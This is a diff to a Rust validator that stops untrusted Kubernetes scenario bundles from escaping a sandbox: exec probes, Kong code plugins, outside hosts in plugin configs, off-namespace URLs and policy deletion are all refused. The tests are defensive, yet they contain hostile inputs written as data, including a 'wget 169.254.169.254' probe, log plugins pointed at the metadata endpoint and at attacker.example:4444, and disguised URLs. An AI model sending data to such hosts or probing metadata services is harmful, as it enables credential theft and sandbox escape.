@@ -245,6 +245,14 @@ fn reach_problem(m: &Manifest) -> Option<(Vec<&'static str>, String)> {
             vec!["spec", "type"],
             "an `ExternalName` Service points the cluster (and Kong) at a host outside it".into(),
         )),
+        "Service" if matches!(o.pointer("/spec/type").and_then(Value::as_str), Some("NodePort" | "LoadBalancer")) => {
+            Some((
+                vec!["spec", "type"],
+                "a NodePort or LoadBalancer Service opens a port on the node (k3s's ServiceLB binds the host's); a \
+                 scenario's Services are ClusterIP"
+                    .into(),
+            ))
+        }
         "Endpoints" | "EndpointSlice" => Some((
             vec!["kind"],
             format!(
@@ -273,85 +281,282 @@ fn reach_problem(m: &Manifest) -> Option<(Vec<&'static str>, String)> {
     }
 }
 
-/// What an untrusted bundle may not do on top of every scenario's rules: choose the commands its
-/// containers run (`command`/`args`: the images' own entrypoints run, and the harness builds the
-/// client pods that send requests); bring NetworkPolicies of its own (policies add up, so one
-/// allowing all egress would undo the sandbox's); send a client pod's request anywhere but a
-/// Service of its own namespace (Kong's admin API, the API server or the collector would
-/// otherwise be a request away). `--trust-bundle` lifts this.
+/// Kong plugins that run code of the bundle's choosing inside Kong (Kong 3.9 bundles them;
+/// kong/plugins/pre-function, post-function).
+const CODE_PLUGINS: &[&str] = &["pre-function", "post-function"];
+
+/// What an untrusted bundle's object may not be or do, on top of every scenario's rules, as
+/// `(field path, why)`: a NetworkPolicy of its own (policies add up, so one allowing egress
+/// would undo the sandbox's); a container that runs anything but its image's entrypoint
+/// (`command`/`args`, an `exec` probe or lifecycle hook); a pod that lifts AppArmor, unmasks
+/// `/proc`, sets sysctls or allows privilege escalation; a Kong plugin that runs code, or whose
+/// configuration names a host outside `reachable` (the scenario's namespace and the trace
+/// collector's): Kong's own pods would connect there. Checked offline at the object's line and
+/// again on every object the executor sends (`Live::fixture_guard`).
+pub fn untrusted_object_problem(object: &Value, reachable: &[&str]) -> Option<(Vec<String>, String)> {
+    let kind = object.get("kind").and_then(Value::as_str).unwrap_or_default();
+    let path = |parts: &[&str]| parts.iter().map(|p| (*p).to_owned()).collect::<Vec<_>>();
+    if kind == "NetworkPolicy" {
+        return Some((
+            path(&["kind"]),
+            "an untrusted bundle brings no NetworkPolicy of its own: policies add up, and one could open what the \
+             sandbox's egress policy closes"
+                .into(),
+        ));
+    }
+    if matches!(kind, "KongPlugin" | "KongClusterPlugin") {
+        let plugin = object.get("plugin").and_then(Value::as_str).unwrap_or_default();
+        if CODE_PLUGINS.contains(&plugin) {
+            return Some((
+                path(&["plugin"]),
+                format!("the `{plugin}` plugin runs Lua of the bundle's choosing inside Kong"),
+            ));
+        }
+        let mut found = None;
+        outside_hosts(
+            object.get("config").unwrap_or(&Value::Null),
+            &mut vec!["config".to_owned()],
+            reachable,
+            &mut found,
+        );
+        return found.map(|(at, host)| {
+            (
+                at,
+                format!(
+                    "the plugin's configuration sends Kong to `{}`, outside the cluster's own services",
+                    crate::names::printable(&host)
+                ),
+            )
+        });
+    }
+    if let Some(annotations) = object
+        .pointer("/spec/template/metadata/annotations")
+        .or_else(|| object.pointer("/metadata/annotations"))
+        .and_then(Value::as_object)
+        && let Some((key, _)) = annotations.iter().find(|(k, v)| {
+            k.starts_with("container.apparmor.security.beta.kubernetes.io/") && v.as_str() == Some("unconfined")
+        })
+    {
+        return Some((
+            path(&["metadata", "annotations", key]),
+            "AppArmor `unconfined` lifts the container's profile".into(),
+        ));
+    }
+    let spec_path = pod_spec_path(kind)?;
+    let spec = spec_path.iter().try_fold(object, |v, k| v.get(*k))?;
+    let at =
+        |rest: &[&str]| spec_path.iter().copied().chain(rest.iter().copied()).map(str::to_owned).collect::<Vec<_>>();
+    if spec.pointer("/securityContext/sysctls").and_then(Value::as_array).is_some_and(|a| !a.is_empty()) {
+        return Some((
+            at(&["securityContext", "sysctls"]),
+            "sysctls change the node's kernel settings for the pod".into(),
+        ));
+    }
+    if spec.pointer("/securityContext/appArmorProfile/type").and_then(Value::as_str) == Some("Unconfined") {
+        return Some((
+            at(&["securityContext", "appArmorProfile", "type"]),
+            "AppArmor `Unconfined` lifts the pod's profile".into(),
+        ));
+    }
+    for list in ["initContainers", "containers", "ephemeralContainers"] {
+        for (c, container) in spec.get(list).and_then(Value::as_array).into_iter().flatten().enumerate() {
+            let index = c.to_string();
+            let here = |rest: &[&str]| at(&[&[list, index.as_str()], rest].concat());
+            for key in ["command", "args"] {
+                if container.get(key).is_some() {
+                    return Some((
+                        here(&[key]),
+                        format!(
+                            "an untrusted bundle's containers run their image's own entrypoint, not a `{key}` the bundle chose"
+                        ),
+                    ));
+                }
+            }
+            for hook in [
+                &["livenessProbe"][..],
+                &["readinessProbe"],
+                &["startupProbe"],
+                &["lifecycle", "postStart"],
+                &["lifecycle", "preStop"],
+            ] {
+                let handler = hook.iter().try_fold(container, |v, k| v.get(*k));
+                if handler.and_then(|h| h.get("exec")).is_some() {
+                    return Some((
+                        here(&[hook, &["exec"]].concat()),
+                        "an `exec` probe or hook runs a command of the bundle's choosing in the container".into(),
+                    ));
+                }
+            }
+            let context = container.get("securityContext");
+            if context.and_then(|c| c.get("allowPrivilegeEscalation")).and_then(Value::as_bool) == Some(true) {
+                return Some((
+                    here(&["securityContext", "allowPrivilegeEscalation"]),
+                    "privilege escalation is not for a stranger's pod".into(),
+                ));
+            }
+            if context.and_then(|c| c.get("procMount")).and_then(Value::as_str) == Some("Unmasked") {
+                return Some((
+                    here(&["securityContext", "procMount"]),
+                    "an unmasked /proc shows the node's kernel interfaces".into(),
+                ));
+            }
+            if context.and_then(|c| c.pointer("/appArmorProfile/type")).and_then(Value::as_str) == Some("Unconfined") {
+                return Some((
+                    here(&["securityContext", "appArmorProfile", "type"]),
+                    "AppArmor `Unconfined` lifts the container's profile".into(),
+                ));
+            }
+        }
+    }
+    None
+}
+
+/// The first string under a plugin's `config` that names a host (a URL, or a `host`/`*_host`
+/// field) other than a Service of the `reachable` namespaces, with where it is.
+fn outside_hosts(value: &Value, at: &mut Vec<String>, reachable: &[&str], found: &mut Option<(Vec<String>, String)>) {
+    if found.is_some() {
+        return;
+    }
+    match value {
+        Value::Object(map) => {
+            for (k, v) in map {
+                at.push(k.clone());
+                if let Some(text) = v.as_str()
+                    && (k == "host" || k.ends_with("_host") || k.ends_with("hosts"))
+                    && !in_cluster_host(text, reachable)
+                {
+                    *found = Some((at.clone(), text.to_owned()));
+                    return;
+                }
+                outside_hosts(v, at, reachable, found);
+                at.pop();
+            }
+        }
+        Value::Array(items) => {
+            for (i, v) in items.iter().enumerate() {
+                at.push(i.to_string());
+                outside_hosts(v, at, reachable, found);
+                at.pop();
+            }
+        }
+        Value::String(text) if text.contains("://") => {
+            let rest = text.split_once("://").map_or(text.as_str(), |(_, r)| r);
+            let authority = rest.split(['/', '?', '#']).next().unwrap_or_default();
+            let host = authority.rsplit_once('@').map_or(authority, |(_, h)| h);
+            let host = host.rsplit_once(':').map_or(host, |(h, _)| h);
+            if !in_cluster_host(host, reachable) {
+                *found = Some((at.clone(), text.clone()));
+            }
+        }
+        _ => {}
+    }
+}
+
+/// `<service>.<namespace>[.svc[.cluster.local]]` for a namespace in `reachable`, the service a
+/// DNS-1123 label (so no address, decimal or dotted, and no other domain).
+pub fn in_cluster_host(host: &str, reachable: &[&str]) -> bool {
+    let labels: Vec<&str> = host.trim_end_matches('.').split('.').collect();
+    let suffix_ok = matches!(labels.get(2..), Some([]) | Some(["svc"]) | Some(["svc", "cluster", "local"]));
+    match labels.as_slice() {
+        [service, namespace, ..] => {
+            suffix_ok
+                && reachable.contains(namespace)
+                && crate::names::dns1123_label(service).is_ok()
+                && !service.bytes().all(|b| b.is_ascii_digit())
+        }
+        _ => false,
+    }
+}
+
+/// What an untrusted bundle may not do, at the line it is written: any object
+/// [`untrusted_object_problem`] refuses; a client pod's request to anything but a Service of the
+/// scenario's namespace (Kong's admin API, the API server, the client's own proxy admin, an
+/// address); a `delete` of a NetworkPolicy (the sandbox's own). `--trust-bundle` lifts this.
 pub fn untrusted_problem(loaded: &LoadedScenario, manifests: &[Manifest]) -> Option<Box<Diagnostic>> {
     let help = "run it only if you trust the bundle's author: repro run --trust-bundle";
     let namespace = loaded.vars.get("namespace").unwrap_or_default();
+    let collector = loaded.vars.get("tracing.namespace").unwrap_or("tracing");
     for (i, step) in loaded.scenario.steps.iter().enumerate() {
-        let Step::FromPod(s) = step else { continue };
-        if crate::runner::execute::service_of_url(&s.url, namespace).is_none() || s.url.contains('@') {
-            let index = i.to_string();
-            let position = loaded
-                .rendered
-                .source_position(crate::yaml::locate(&loaded.rendered.text, &["steps", &index, "from-pod", "url"]));
-            let d = Diagnostic::error(
-                "scope",
-                &loaded.path,
-                position,
+        let index = i.to_string();
+        let refusal = match step {
+            Step::FromPod(s) if !own_service_url(&s.url, namespace) => Some((
+                ["steps", index.as_str(), "from-pod", "url"],
+                format!("steps[{i}].from-pod.url"),
                 format!(
                     "an untrusted bundle's client pods send requests only to Services of the scenario's namespace \
                      (http://<service>.{{{{ namespace }}}}.svc.cluster.local/...), not to `{}`",
                     crate::names::printable(&s.url)
                 ),
-            )
-            .with_field(format!("steps[{i}].from-pod.url"))
-            .with_source(&loaded.source)
-            .with_help(help);
+            )),
+            Step::Delete(d) if d.resource.as_ref().is_some_and(|r| r.kind == "NetworkPolicy") => Some((
+                ["steps", index.as_str(), "delete", "resource"],
+                format!("steps[{i}].delete.resource"),
+                "an untrusted bundle deletes no NetworkPolicy: the sandbox's egress policy is one".to_owned(),
+            )),
+            _ => None,
+        };
+        if let Some((path, field, message)) = refusal {
+            let position = loaded.rendered.source_position(crate::yaml::locate(&loaded.rendered.text, &path));
+            let d = Diagnostic::error("scope", &loaded.path, position, message)
+                .with_field(field)
+                .with_source(&loaded.source)
+                .with_help(help);
             return Some(Box::new(d));
         }
     }
     for m in manifests {
-        if m.kind == "NetworkPolicy" {
-            let d = Diagnostic::error(
-                "scope",
-                &m.file,
-                m.position_of(&["kind"]),
-                format!(
-                    "NetworkPolicy {}: an untrusted bundle brings no NetworkPolicy of its own: policies add up, and \
-                     one could open what the sandbox's egress policy closes",
-                    m.name
-                ),
-            )
-            .with_field("kind")
-            .with_source(&m.source)
-            .with_help(help);
+        if let Some((path, message)) = untrusted_object_problem(&m.object, &[namespace, collector]) {
+            let path: Vec<&str> = path.iter().map(String::as_str).collect();
+            let d =
+                Diagnostic::error("scope", &m.file, m.position_of(&path), format!("{} {}: {message}", m.kind, m.name))
+                    .with_field(path.join("."))
+                    .with_source(&m.source)
+                    .with_help(help);
             return Some(Box::new(d));
-        }
-    }
-    for m in manifests {
-        let Some(path) = pod_spec_path(&m.kind) else { continue };
-        let Some(spec) = path.iter().try_fold(&m.object, |v, k| v.get(*k)) else { continue };
-        for list in ["initContainers", "containers", "ephemeralContainers"] {
-            for (c, container) in spec.get(list).and_then(Value::as_array).into_iter().flatten().enumerate() {
-                for key in ["command", "args"] {
-                    if container.get(key).is_some() {
-                        let index = c.to_string();
-                        let full: Vec<&str> = path.iter().copied().chain([list, index.as_str(), key]).collect();
-                        let d = Diagnostic::error(
-                            "scope",
-                            &m.file,
-                            m.position_of(&full),
-                            format!(
-                                "{} {}: an untrusted bundle's containers run their image's own entrypoint, not a \
-                                 `{key}` the bundle chose",
-                                m.kind, m.name
-                            ),
-                        )
-                        .with_field(full.join("."))
-                        .with_source(&m.source)
-                        .with_help(help);
-                        return Some(Box::new(d));
-                    }
-                }
-            }
         }
     }
     None
+}
+
+/// `http://<service>[.<namespace>[.svc[.cluster.local]]][:port]/...` naming a Service of
+/// `namespace`, without user info: a bare service name resolves in the client's own namespace.
+pub fn own_service_url(url: &str, namespace: &str) -> bool {
+    let Some(rest) = url.strip_prefix("http://").or_else(|| url.strip_prefix("https://")) else { return false };
+    let authority = rest.split(['/', '?', '#']).next().unwrap_or_default();
+    if authority.contains('@') {
+        return false;
+    }
+    let host = authority.rsplit_once(':').map_or(authority, |(h, _)| h);
+    let bare = !host.contains('.')
+        && crate::names::dns1123_label(host).is_ok()
+        && !host.bytes().all(|b| b.is_ascii_digit())
+        && host != "localhost";
+    bare || in_cluster_host(host, &[namespace])
+}
+
+/// Pod specs of an untrusted bundle's objects get the runtime's default seccomp filter when
+/// they name none (the kubelet's default is `Unconfined` unless its `seccompDefault` is on,
+/// which kind does not turn on). Pod Security Admission would refuse the meshes' init
+/// containers (Istio's and Linkerd's need NET_ADMIN), so the filter is set, not required.
+pub fn with_default_seccomp(mut object: Value) -> Value {
+    let kind = object.get("kind").and_then(Value::as_str).unwrap_or_default().to_owned();
+    let Some(path) = pod_spec_path(&kind) else { return object };
+    let mut spec = &mut object;
+    for key in path {
+        match spec.get_mut(*key) {
+            Some(next) => spec = next,
+            None => return object,
+        }
+    }
+    if let Some(spec) = spec.as_object_mut() {
+        let context = spec.entry("securityContext").or_insert_with(|| serde_json::json!({}));
+        if let Some(context) = context.as_object_mut()
+            && !context.contains_key("seccompProfile")
+        {
+            context.insert("seccompProfile".into(), serde_json::json!({"type": "RuntimeDefault"}));
+        }
+    }
+    object
 }
 
 /// The name of the egress policy an untrusted bundle's namespace gets.
@@ -846,10 +1051,67 @@ mod tests {
         let d = case(to_kong_admin, SERVICE).expect("refused");
         assert_eq!(d.field.as_deref(), Some("steps[0].from-pod.url"));
         assert!(d.position.line > 6, "{d}");
+        // Commands by other means, policies undone, Kong sent outside, requests to addresses.
+        let probe = deployment("        livenessProbe: {exec: {command: [sh, -c, 'wget 169.254.169.254']}}\n");
+        let d = case(OK_STEP, &format!("{SERVICE}---\n{probe}")).expect("refused");
+        assert_eq!(d.field.as_deref(), Some("spec.template.spec.containers.0.livenessProbe.exec"));
+        let hook = deployment("        lifecycle: {postStart: {exec: {command: [sh]}}}\n");
+        let d = case(OK_STEP, &format!("{SERVICE}---\n{hook}")).expect("refused");
+        assert_eq!(d.field.as_deref(), Some("spec.template.spec.containers.0.lifecycle.postStart.exec"));
+        let log = "apiVersion: configuration.konghq.com/v1\nkind: KongPlugin\nmetadata:\n  name: out\nplugin: http-log\n\
+                   config:\n  http_endpoint: http://169.254.169.254/latest/meta-data\n";
+        let d = case(OK_STEP, &format!("{SERVICE}---\n{log}")).expect("refused");
+        assert_eq!(d.field.as_deref(), Some("config.http_endpoint"), "{d}");
+        let lua = "apiVersion: configuration.konghq.com/v1\nkind: KongPlugin\nmetadata:\n  name: lua\nplugin: pre-function\n\
+                   config: {access: [\"kong.log.err('x')\"]}\n";
+        assert_eq!(case(OK_STEP, &format!("{SERVICE}---\n{lua}")).expect("refused").field.as_deref(), Some("plugin"));
+        let tcp = "apiVersion: configuration.konghq.com/v1\nkind: KongPlugin\nmetadata:\n  name: tcp\nplugin: tcp-log\n\
+                   config: {host: attacker.example, port: 4444}\n";
+        assert_eq!(
+            case(OK_STEP, &format!("{SERVICE}---\n{tcp}")).expect("refused").field.as_deref(),
+            Some("config.host")
+        );
+        let unpolicy = "  - delete: {resource: {apiVersion: networking.k8s.io/v1, kind: NetworkPolicy, name: kme2e-sandbox-egress}}\n";
+        let d = case(unpolicy, SERVICE).expect("refused");
+        assert_eq!(d.field.as_deref(), Some("steps[0].delete.resource"));
+        for url in [
+            "http://echo.{{ namespace }}.evil.example/",
+            "http://localhost:15000/config_dump",
+            "http://2852039166/",
+            "http://user:pw@echo.{{ namespace }}.svc.cluster.local/",
+            "http://kubernetes.default.svc/api",
+        ] {
+            let step = format!(
+                "  - from-pod:\n      client: {{meshed: false}}\n      url: \"{url}\"\n      expect: {{status: 200}}\n"
+            );
+            let d = case(&step, SERVICE).unwrap_or_else(|| panic!("{url} refused"));
+            assert_eq!(d.field.as_deref(), Some("steps[0].from-pod.url"), "{url}");
+        }
+        // A plugin sending spans to the collector's Service is fine.
+        let otel = "apiVersion: configuration.konghq.com/v1\nkind: KongPlugin\nmetadata:\n  name: otel\nplugin: opentelemetry\n\
+                    config: {traces_endpoint: \"http://jaeger.tracing.svc.cluster.local:4318/v1/traces\"}\n";
+        assert!(case(OK_STEP, &format!("{SERVICE}---\n{otel}")).is_none());
         // The same, done the way the sandbox allows, is fine.
         let own = "  - from-pod:\n      client: {meshed: false}\n      \
                    url: \"http://echo.{{ namespace }}.svc.cluster.local/\"\n      expect: {status: 200}\n";
         assert!(case(own, &format!("{SERVICE}---\n{}", deployment(""))).is_none());
+    }
+
+    /// An untrusted bundle's pods get the runtime's default seccomp filter unless they name one.
+    #[test]
+    fn untrusted_pods_get_the_default_seccomp_filter() {
+        let deployment = serde_json::json!({"apiVersion": "apps/v1", "kind": "Deployment", "metadata": {"name": "d"},
+            "spec": {"template": {"spec": {"containers": [{"name": "c", "image": "x"}]}}}});
+        let out = with_default_seccomp(deployment);
+        assert_eq!(
+            out.pointer("/spec/template/spec/securityContext/seccompProfile/type"),
+            Some(&serde_json::json!("RuntimeDefault"))
+        );
+        let named = serde_json::json!({"apiVersion": "v1", "kind": "Pod", "metadata": {"name": "p"},
+            "spec": {"securityContext": {"seccompProfile": {"type": "Localhost", "localhostProfile": "p.json"}}, "containers": []}});
+        assert_eq!(with_default_seccomp(named.clone()), named, "a profile the pod names is kept");
+        let service = serde_json::json!({"apiVersion": "v1", "kind": "Service", "metadata": {"name": "s"}});
+        assert_eq!(with_default_seccomp(service.clone()), service);
     }
 
     /// The sandbox's egress policy: the namespace's own pods, DNS and the named namespaces only.
